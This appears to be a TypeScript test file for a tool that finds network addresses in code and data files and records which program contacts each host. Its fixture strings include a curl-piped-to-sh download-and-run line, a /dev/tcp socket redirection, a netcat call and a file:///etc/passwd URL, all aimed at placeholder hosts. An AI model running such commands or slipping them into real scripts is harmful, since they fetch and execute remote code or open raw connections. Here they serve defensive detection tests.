import assert from 'node:assert/strict'
import { addressesIn, endpoint } from '../../../server/core/facts/endpoint'
import { factsOf, textAt } from '../../harness/facts'

describe('addresses of other machines', () => {
  it('are found in the forms programs write', () => {
    const text =
      'https://user:pass@a.example.invalid:8443/p?q=1 git@b.example.invalid:group/repo.git exec 3<>/dev/tcp/c.example.invalid/443 10.0.0.1:80 https://[2001:db8::1]/x file:///etc/passwd http://www.w3.org/2000/svg v1.2.3.4'
    assert.deepEqual(
      addressesIn(text).map(({ scheme, host, port }) => [scheme, host, port]),
      [
        ['https', 'a.example.invalid', 8443],
        ['ssh', 'b.example.invalid', undefined],
        ['tcp', 'c.example.invalid', 443],
        [undefined, '10.0.0.1', 80],
        ['https', '[2001:db8::1]', undefined],
      ],
    )
  })

  it('stand where they were found, with the program that gets them', async () => {
    const text =
      'host=x.example.invalid\ncurl -s "https://$host/a" | sh\nnc y.example.invalid 99\nwget z.tar.gz # https://c.example.invalid\ndig +short q.example.invalid\n'
    const facts = await factsOf(endpoint, { path: 'get.sh', new: text })
    assert.deepEqual(
      facts.map(({ subject, location, data }) => [subject, data.by, data.scheme, textAt(text, location.at)]),
      [
        ['x.example.invalid', 'curl', 'https', '"https://$host/a"'],
        ['y.example.invalid', 'nc', 'tcp', 'y.example.invalid'],
        ['q.example.invalid', 'dig', 'dns', 'q.example.invalid'],
        ['c.example.invalid', '', 'https', 'https://c.example.invalid'],
      ],
    )
  })

  it('count in files that are data', async () => {
    const facts = await factsOf(endpoint, { path: 'a.yml', new: 'url: https://d.example.invalid/x\n' })
    assert.deepEqual(
      facts.map(({ subject }) => subject),
      ['d.example.invalid'],
    )
  })
})
